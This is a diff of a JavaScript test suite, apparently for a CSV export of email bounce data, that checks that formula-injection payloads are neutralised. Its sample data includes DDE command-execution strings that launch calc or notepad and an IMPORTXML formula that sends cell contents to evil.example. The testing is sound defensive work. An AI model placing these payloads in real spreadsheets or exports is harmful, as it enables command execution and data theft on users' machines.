@@ -7,8 +7,8 @@ const starts = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20'];
 const skipped = ['', ' ', '\t', '\r', '\n', '\r\n', '\u0000', '\u00a0', '\ufeff', '\u3000 ', '\u0000\t ', '\u2003'];
 const formulas = [
   'HYPERLINK("https://evil.example","x")',
-  'cmd|\' /C calc\'!A0',
-  'SUM(1+1)*cmd|\' /C notepad\'!A1',
+  "cmd|' /C calc'!A0",
+  "SUM(1+1)*cmd|' /C notepad'!A1",
   'IMPORTXML(CONCAT("https://evil.example?",A1),"//a")',
   'DDE("cmd";"/C calc";"x")',
 ];
@@ -96,7 +96,11 @@ test.each(payloads.map((text) => [JSON.stringify(text), text]))('%s begins no ce
 });
 
 test('a summary holds no formula either', () => {
-  expect(parseCsv(payloads.map((text) => csvLine(['domain', text, 1])).join('')).flat().filter(isFormula)).toEqual([]);
+  expect(
+    parseCsv(payloads.map((text) => csvLine(['domain', text, 1])).join(''))
+      .flat()
+      .filter(isFormula),
+  ).toEqual([]);
 });
 
 test('what is no formula is not touched', () => {
@@ -117,8 +121,18 @@ test('payloads that came in a reply, a log and a webhook', () => {
     const word = text.replaceAll(/[\r\n]/g, ' ');
     return [
       ...decode(`${word} 550 5.1.1 no such user`),
-      ...decode(`2026-05-27 14:30:01 1uJxAb-0002Cd-3E ** a@b.example R=d T=r H=mx.b.example [192.0.2.7]: ${word}\n`, { as: 'log' }),
-      ...decode({ RecordType: 'Bounce', Type: 'HardBounce', MessageID: text, Email: text, Details: text, Subject: text, Tag: text }),
+      ...decode(`2026-05-27 14:30:01 1uJxAb-0002Cd-3E ** a@b.example R=d T=r H=mx.b.example [192.0.2.7]: ${word}\n`, {
+        as: 'log',
+      }),
+      ...decode({
+        RecordType: 'Bounce',
+        Type: 'HardBounce',
+        MessageID: text,
+        Email: text,
+        Details: text,
+        Subject: text,
+        Tag: text,
+      }),
     ].map(csvRow);
   });
   const cells = parseCsv(rows.join(''));
